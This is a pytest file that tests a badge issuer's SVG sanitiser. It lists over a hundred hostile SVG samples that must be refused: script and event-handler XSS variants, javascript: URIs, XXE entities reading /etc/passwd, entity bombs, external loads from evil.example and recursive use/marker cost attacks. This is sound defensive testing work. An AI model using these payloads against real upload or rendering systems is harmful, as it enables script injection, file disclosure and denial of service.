"""Hostile SVGs, made here: each is refused with its reason, or comes out as a drawing and nothing else."""

from __future__ import annotations

import io
import re
from collections.abc import Callable
from dataclasses import replace
from xml.etree import ElementTree

import pytest
from PIL import Image

from badgeissuer.drawing.cleaning import LIMITS, clean, read, written
from badgeissuer.drawing.sheets import BadgeFacts, badge_svg
from badgeissuer.drawing.vector import clean_svg
from badgeissuer.drawing.workshop import cleaned as cleaned_apart
from badgeissuer.vc.bake import bake, unbake
from badgeissuer.vc.carriers.forms import ImageRefused, Meter

NS = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'


def svg(body: str = "", attributes: str = "", *, before: str = "") -> bytes:
    return f'{before}<svg {NS} viewBox="0 0 100 100"{attributes}>{body}</svg>'.encode()


RECT = '<rect width="100" height="100" fill="red"/>'


def uses(levels: int, each: int) -> str:
    inner = '<g id="l0"><rect width="1" height="1"/></g>'
    for level in range(1, levels + 1):
        inner += f'<g id="l{level}">' + f'<use href="#l{level - 1}"/>' * each + "</g>"
    return f"<defs>{inner}</defs><use href='#l{levels}'/>"


def _lol() -> str:
    lines = '<!ENTITY a "lol">' + "".join(f'<!ENTITY {b} "{("&" + a + ";") * 10}">' for a, b in ("ab", "bc", "cd"))
    return f"<!DOCTYPE svg [{lines}]>"


REFUSED: dict[str, Callable[[], bytes]] = {
    # Runs.
    "script": lambda: svg("<script>alert(1)</script>"),
    "script from elsewhere": lambda: svg('<script href="https://evil.example/x.js"/>'),
    "script in other letters": lambda: svg("<ScRiPt>alert(1)</ScRiPt>"),
    "script under a prefix": lambda: svg('<s:script xmlns:s="http://www.w3.org/2000/svg">alert(1)</s:script>'),
    "script in no namespace": lambda: svg('<script xmlns="">alert(1)</script>'),
    "script of HTML": lambda: svg('<script xmlns="http://www.w3.org/1999/xhtml">alert(1)</script>'),
    "script in what is left out": lambda: svg("<metadata><script>alert(1)</script></metadata>"),
    "handler on the root": lambda: svg(attributes=' onload="alert(1)"'),
    "handler on a shape": lambda: svg('<rect width="1" height="1" onclick="alert(1)"/>'),
    "handler in other letters": lambda: svg('<rect OnMouseOver="alert(1)"/>'),
    "handler with a line break": lambda: svg('<rect\nonfocus\n=\n"alert(1)"/>'),
    "javascript in a link": lambda: svg('<a href="javascript:alert(1)"><rect/></a>'),
    "javascript with a tab": lambda: svg('<use xlink:href="java&#9;script:alert(1)"/>'),
    "javascript with a line break": lambda: svg('<use href="java&#10;script:alert(1)"/>'),
    "javascript behind blanks": lambda: svg('<use href=" &#1;javascript:alert(1)"/>'.replace("&#1;", "&#x20;")),
    "javascript behind a zero-width space": lambda: svg('<rect fill="\u200bjavascript:alert(1)"/>'),
    "javascript in other letters": lambda: svg('<use href="JaVaScRiPt:alert(1)"/>'),
    "vbscript": lambda: svg('<use href="vbscript:x"/>'),
    "set on href": lambda: svg(
        '<use id="u" href="#u2"/><set href="#u" attributeName="href" to="javascript:alert(1)"/>'
    ),
    "animate on href": lambda: svg('<animate attributeName="xlink:href" values="javascript:alert(1)"/>'),
    "animate in a shape": lambda: svg('<rect><animate attributeName="x" to="1"/></rect>'),
    "animateTransform": lambda: svg('<g><animateTransform attributeName="transform"/></g>'),
    "animateMotion": lambda: svg('<g><animateMotion path="M0 0"/></g>'),
    "handler element": lambda: svg('<handler type="text/javascript">x</handler>'),
    "XML events": lambda: svg('<ev:listener xmlns:ev="http://www.w3.org/2001/xml-events" event="load"/>'),
    # Other documents inside.
    "foreignObject": lambda: svg('<foreignObject><body xmlns="http://www.w3.org/1999/xhtml"/></foreignObject>'),
    "foreignObject in a switch": lambda: svg("<switch><foreignObject/></switch>"),
    "HTML inside": lambda: svg('<h:iframe xmlns:h="http://www.w3.org/1999/xhtml" src="x"/>'),
    "HTML named as SVG's": lambda: svg('<iframe src="https://evil.example"/>'),
    "MathML": lambda: svg('<m:math xmlns:m="http://www.w3.org/1998/Math/MathML"/>'),
    "XInclude": lambda: svg('<x:include xmlns:x="http://www.w3.org/2001/XInclude" href="file:///etc/passwd"/>'),
    "XSLT": lambda: svg('<x:template xmlns:x="http://www.w3.org/1999/XSL/Transform"/>'),
    "picture inside": lambda: svg('<image href="data:image/png;base64,iVBORw0KGgo="/>'),
    "SVG inside a picture": lambda: svg('<image href="data:image/svg+xml,&lt;svg onload=1&gt;"/>'),
    "audio and video": lambda: svg('<video src="https://evil.example/v"/>'),
    # Reaches out.
    "picture from elsewhere": lambda: svg('<image href="https://evil.example/x.png"/>'),
    "picture of the machine": lambda: svg('<image xlink:href="file:///etc/passwd"/>'),
    "feImage": lambda: svg('<filter id="f"><feImage href="https://evil.example/x.png"/></filter>'),
    "use from elsewhere": lambda: svg('<use href="https://evil.example/x.svg#a"/>'),
    "use of a neighbour": lambda: svg('<use href="other.svg#a"/>'),
    "use without a scheme": lambda: svg('<use href="//evil.example/x.svg#a"/>'),
    "reference with percent signs": lambda: svg('<use href="#%6c1"/>'),
    "data in an address": lambda: svg('<use href="data:text/html,x"/>'),
    "xml:base": lambda: svg('<g xml:base="https://evil.example/"><use href="#a"/></g>'),
    "gradient from elsewhere": lambda: svg('<linearGradient id="a" href="https://evil.example/g#x"/>'),
    "fill from elsewhere": lambda: svg('<rect fill="url(https://evil.example/#a)"/>'),
    "fill with a space before its address": lambda: svg('<rect fill="url (https://evil.example/#a)"/>'),
    "fill without an end": lambda: svg('<rect fill="url(#a"/>'),
    "style attribute from elsewhere": lambda: svg('<rect style="fill:url(//evil.example/a)"/>'),
    "style attribute with a property of no use": lambda: svg('<rect style="background:url(https://evil.example/)"/>'),
    "style with an escape": lambda: svg('<rect style="fill:u\\72l(https://evil.example/a)"/>'),
    "style with image-set": lambda: svg("<rect style=\"fill:image-set('https://evil.example/a' 1x)\"/>"),
    "style with an unknown function": lambda: svg("<rect style=\"fill:fetch('a')\"/>"),
    "attribute with an unknown function": lambda: svg('<rect fill="paint(x)"/>'),
    "attribute with an address": lambda: svg('<rect fill="//evil.example/a"/>'),
    "sheet with an address": lambda: svg("<style>rect{fill:https://evil.example/a}</style>"),
    "sheet with a function torn by a comment": lambda: svg("<style>rect{fill:ur/**/l(//evil.example/a)}</style>"),
    "brackets around nothing": lambda: svg('<rect fill="(a)"/>'),
    "sheet with import": lambda: svg("<style>@import 'https://evil.example/a.css';</style>"),
    "sheet with import and url": lambda: svg("<style>@import url(https://evil.example/a.css);</style>"),
    "sheet with a font": lambda: svg("<style>@font-face{font-family:x;src:url(https://evil.example/f)}</style>"),
    "sheet with a comment in between": lambda: svg("<style>rect{fill:url(/**/https://evil.example/a)}</style>"),
    "sheet with an escape": lambda: svg("<style>rect{fill:\\75rl(https://evil.example/a)}</style>"),
    "sheet that reads attributes": lambda: svg("<style>rect[id^='a']{fill:url(https://evil.example/a)}</style>"),
    "sheet with a key frame": lambda: svg("<style>@keyframes x{from{fill:red}}</style>"),
    "sheet with nesting": lambda: svg("<style>g{rect{fill:red}}</style>"),
    "sheet without an end": lambda: svg("<style>rect{fill:red</style>"),
    "sheet with elements": lambda: svg("<style><rect/></style>"),
    "sheet with a pseudo class": lambda: svg("<style>rect:hover{fill:red}</style>"),
    "behavior": lambda: svg('<rect style="behavior:url(#x)"/>'),
    "expression": lambda: svg('<rect style="width:expression(alert(1))"/>'),
    "style sheet by instruction": lambda: svg(before='<?xml-stylesheet href="https://evil.example/a.css"?>'),
    # Entities and definitions.
    "DOCTYPE": lambda: svg(before="<!DOCTYPE svg>"),
    "DOCTYPE from elsewhere": lambda: svg(before='<!DOCTYPE svg SYSTEM "https://evil.example/a.dtd">'),
    "entity of a file": lambda: svg(
        "<text>&x;</text>", before='<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    ),
    "entities that multiply": lambda: svg("<text>&d;</text>", before=_lol()),
    "parameter entity": lambda: svg(before='<!DOCTYPE svg [<!ENTITY % x SYSTEM "https://evil.example/x">%x;]>'),
    "entity that is not defined": lambda: svg("<text>&nbsp;</text>"),
    # Costs.
    "use that multiplies, 8^6": lambda: svg(uses(6, 8)),
    "use that multiplies, 2^40": lambda: svg(uses(40, 2)),
    "use of itself": lambda: svg('<g id="a"><use href="#a"/></g>'),
    "use in a circle": lambda: svg('<g id="a"><use href="#b"/></g><g id="b"><use href="#a"/></g>'),
    "pattern in itself": lambda: svg('<pattern id="p"><rect fill="url(#p)"/></pattern><rect fill="url(#p)"/>'),
    "marker that multiplies": lambda: svg(
        "".join(
            f'<marker id="m{n}">' + f'<path d="M0 0" marker-start="url(#m{n + 1})"/>' * 12 + "</marker>"
            for n in range(6)
        )
        + '<path d="M0 0" marker-start="url(#m0)"/>'
    ),
    "too deep": lambda: svg("<g>" * 200 + "</g>" * 200),
    "too many elements": lambda: svg("<g/>" * 40_000),
    "too many attributes": lambda: svg("<g " + " ".join(f'a{n}="1"' for n in range(120_000)) + "/>"),
    "instructions in the tree": lambda: svg("<?x y?>"),
    "turbulence": lambda: svg('<filter id="f"><feTurbulence numOctaves="99999"/></filter>'),
    "matrix": lambda: svg('<filter id="f"><feConvolveMatrix order="999"/></filter>'),
    # No such file.
    "no size": lambda: f"<svg {NS}>{RECT}</svg>".encode(),
    "size in percent alone": lambda: f'<svg {NS} width="100%" height="100%"/>'.encode(),
    "size zero": lambda: f'<svg {NS} viewBox="0 0 0 10"/>'.encode(),
    "size below zero": lambda: f'<svg {NS} viewBox="0 0 -5 10"/>'.encode(),
    "size that is no number": lambda: f'<svg {NS} viewBox="0 0 NaN 1e999"/>'.encode(),
    "too large": lambda: svg(attributes=' width="5000" height="5000"'),
    "a line": lambda: f'<svg {NS} viewBox="0 0 1 1000"/>'.encode(),
    "other XML": lambda: b'<?xml version="1.0"?><rss/>',
    "SVG without its namespace": lambda: b'<svg viewBox="0 0 1 1"/>',
    "SVG in another root": lambda: b"<html>" + svg() + b"</html>",
    "unknown element": lambda: svg("<blink/>"),
    "not well-formed": lambda: svg("<g>"),
    "two roots": lambda: svg() + svg(),
    "UTF-16": lambda: svg().decode().encode("utf-16"),
    "says Latin 1": lambda: svg(before='<?xml version="1.0" encoding="iso-8859-1"?>'),
    "no UTF-8": lambda: svg("<text>\xff</text>").decode().encode("latin-1"),
    "NUL": lambda: svg("<text>\0</text>"),
    "packed (SVGZ)": lambda: __import__("gzip").compress(svg()),
    "sheet too long": lambda: svg(f"<style>{'rect{fill:red}' * 90_000}</style>"),
    "longer than 5 MiB": lambda: svg(f"<text>{'x' * (5 << 20)}</text>"),
}


@pytest.mark.parametrize("name", REFUSED)
def test_it_is_refused_at_a_counted_cost(name: str) -> None:
    meter = Meter(LIMITS)
    with pytest.raises(ImageRefused) as refusal:
        clean(REFUSED[name](), meter)
    assert refusal.value.code == "image-refused"
    assert "evil" not in refusal.value.detail
    assert meter.elements <= LIMITS.elements + 1
    assert meter.attributes <= LIMITS.attributes + 1


def test_what_is_told_of_a_strange_name_is_no_text_of_others() -> None:
    with pytest.raises(ImageRefused, match=r"blink$"):
        clean(svg("<blink/>"))
    with pytest.raises(ImageRefused, match=r"an odd name$"):
        clean(svg("<évil-1/>"))


INKSCAPE = """<sodipodi:namedview xmlns:sodipodi="http://sodipodi.sourceforge.net/DTD/sodipodi-0.dtd" onclick="x"/>
<metadata><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns:dc="http://purl.org/dc/elements/1.1/">
<dc:source>Dana Whitaker</dc:source></rdf:RDF></metadata><title>Dana Whitaker</title><!-- Dana Whitaker -->"""
CLEANED: dict[str, tuple[bytes, str]] = {
    "metadata, titles, comments": (svg(INKSCAPE + RECT), '<rect width="100" height="100" fill="red"></rect>'),
    "attributes of editors": (
        svg('<rect xmlns:i="http://www.inkscape.org/namespaces/inkscape" i:label="Dana" data-x="1" width="1"/>'),
        '<rect width="1"></rect>',
    ),
    "unknown properties": (svg('<rect style="-inkscape-x:1;fill:red;cursor:wait"/>'), '<rect style="fill:red"></rect>'),
    "a plain sheet": (
        svg("<style>/* Dana Whitaker */.a, g > rect{fill:url(#g);cursor:wait} .b{x:y}</style>" + RECT),
        "<style>.a, g &gt; rect{fill:url(#g)}</style>" + '<rect width="100" height="100" fill="red"></rect>',
    ),
    "a sheet in CDATA": (svg("<style><![CDATA[.a{fill:red}]]></style>"), "<style>.a{fill:red}</style>"),
    "old references": (
        svg('<g id="a"/><use xlink:href="#a" x="1"/>'),
        '<g id="a"></g><use href="#a" x="1"></use>',
    ),
    "brackets that are torn": (svg('<rect style="fill:rgb(1;2);stroke:red"/>'), '<rect style="stroke:red"></rect>'),
    "functions that draw": (
        svg('<g transform="translate(1 2) rotate(3)" fill="RGB(1,2,3)" style="filter:blur(2px);stroke:url( #g )"/>'),
        '<g transform="translate(1 2) rotate(3)" fill="RGB(1,2,3)" style="filter:blur(2px);stroke:url( #g )"></g>',
    ),
    "texts": (svg("<text>a &lt;b&gt; &amp; 王</text>"), "<text>a &lt;b&gt; &amp; 王</text>"),
    "text outside of texts": (svg("Dana Whitaker<g>Dana</g>"), "<g></g>"),
    "ids with spaces and brackets": (svg('<g id="a b)" class="a &lt;b"/>'), "<g></g>"),
    "kept spaces": (svg('<text xml:space="preserve" xml:lang="en">a</text>'), '<text xml:space="preserve">a</text>'),
    "credential of somebody else": (
        svg(f'<o:credential xmlns:o="https://purl.imsglobal.org/ob/v3p0">{{"id":"Dana"}}</o:credential>{RECT}'),
        '<rect width="100" height="100" fill="red"></rect>',
    ),
    "declaration and byte order mark": (
        b"\xef\xbb\xbf" + svg(RECT, before='<?xml version="1.0" encoding="UTF-8"?>\n'),
        '<rect width="100" height="100" fill="red"></rect>',
    ),
}


@pytest.mark.parametrize("name", CLEANED)
def test_only_what_draws_is_left(name: str) -> None:
    data, expected = CLEANED[name]
    vector = clean_svg(data, Meter(LIMITS))
    content = vector.content.decode()
    start, _, body = content.partition(">")
    assert body == expected + "</svg>"
    assert start == '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 100 100" width="600" height="600"'
    assert "Dana" not in content
    ElementTree.fromstring(content)
    # Cleaning what is clean changes nothing.
    assert clean_svg(vector.content, Meter(LIMITS)).content == vector.content


@pytest.mark.parametrize(
    ("attributes", "size"),
    [
        ('viewBox="0 0 400 200"', (600, 300)),
        ('viewBox="0,0 200,400"', (300, 600)),
        ('viewBox="0 0 400 200" width="100"', (100, 50)),
        ('viewBox="0 0 400 200" height="100px"', (200, 100)),
        ('viewBox="0 0 400 200" width="100%" height="100%"', (600, 300)),
        ('width="300pt" height="1in"', (400, 96)),
        ('width="12" height="34.4" x="5" y="6"', (12, 34)),
    ],
)
def test_the_size_is_said_or_follows_from_the_box(attributes: str, size: tuple[int, int]) -> None:
    vector = clean_svg(f"<svg {NS} {attributes}>{RECT}</svg>".encode(), Meter(LIMITS))
    assert (vector.width, vector.height) == size
    assert f'width="{size[0]}" height="{size[1]}"'.encode() in vector.content
    assert b" x=" not in vector.content.partition(b">")[0]
    assert b"viewBox=" in vector.content


def test_the_default_badge_could_be_uploaded_and_looks_the_same() -> None:
    drawn = badge_svg(BadgeFacts("Assessment Literacy", "KVEC", "did:web:x", "Micro-credential"))
    cleaned = clean(drawn)
    assert (cleaned.media_type, cleaned.width) == ("image/svg+xml", 533)
    with Image.open(io.BytesIO(cleaned.picture)) as picture, Image.open(io.BytesIO(clean(svg(RECT)).picture)) as red:
        assert picture.size == (800, 800)
        assert len(picture.getcolors(maxcolors=1_000_000) or []) > 50
        assert red.getpixel((400, 400)) == (255, 0, 0, 255)
    assert unbake(bake(cleaned.content, '{"a":1}')).text == '{"a":1}'


def test_gradients_filters_and_text_are_drawn() -> None:
    body = (
        '<defs><linearGradient id="g"><stop offset="0" stop-color="blue"/><stop offset="1" stop-color="red"/>'
        '</linearGradient><filter id="f"><feGaussianBlur stdDeviation="2"/></filter></defs>'
        '<rect width="100" height="100" fill="url(#g)"/><circle cx="50" cy="50" r="20" filter="url(#f)"/>'
        '<text x="10" y="90" font-size="10">Zoë</text>'
    )
    with Image.open(io.BytesIO(clean(svg(body)).picture)) as picture:
        left, right, middle = (picture.convert("RGB").getpixel((x, y)) for x, y in ((5, 5), (795, 5), (400, 400)))
    assert left == (254, 0, 1) or left[2] > 200
    assert right[0] > 200
    assert middle == (0, 0, 0)


async def test_a_process_of_its_own_gives_the_same_and_is_killed_where_it_takes_too_long() -> None:
    data = svg(RECT)
    assert await cleaned_apart(data) == clean(data) == read(written(clean(data)))
    with pytest.raises(ImageRefused, match="neither PNG nor SVG"):
        await cleaned_apart(b"GIF89a")
    with pytest.raises(ImageRefused, match="too long"):
        await cleaned_apart(data, seconds=0.01)
    blur = '<filter id="f"><feGaussianBlur stdDeviation="9999"/></filter>'
    heavy = blur + '<rect width="100" height="100" filter="url(#f)"/>' * 3_000
    with pytest.raises(ImageRefused, match="takes"):
        await cleaned_apart(svg(heavy), seconds=4)


def test_an_answer_that_is_cut_short_is_not_taken() -> None:
    with pytest.raises(ValueError, match="cut short"):
        read(written(clean(svg(RECT)))[:-1])


def test_a_drawing_repeats_less_than_what_is_only_carried() -> None:
    body = uses(4, 9)
    with pytest.raises(ImageRefused, match="repeat"):
        clean_svg_or_refuse(svg(body))
    assert clean_svg(svg(uses(3, 9)), Meter(replace(LIMITS, drawn=20_000))).content


def clean_svg_or_refuse(data: bytes) -> None:
    clean(data, Meter(replace(LIMITS, drawn=5_000)))


def test_there_are_as_many_cases_as_were_promised() -> None:
    assert len(REFUSED) >= 25
    assert not [name for name in REFUSED if re.search(r"\d\d\d\d", name)]
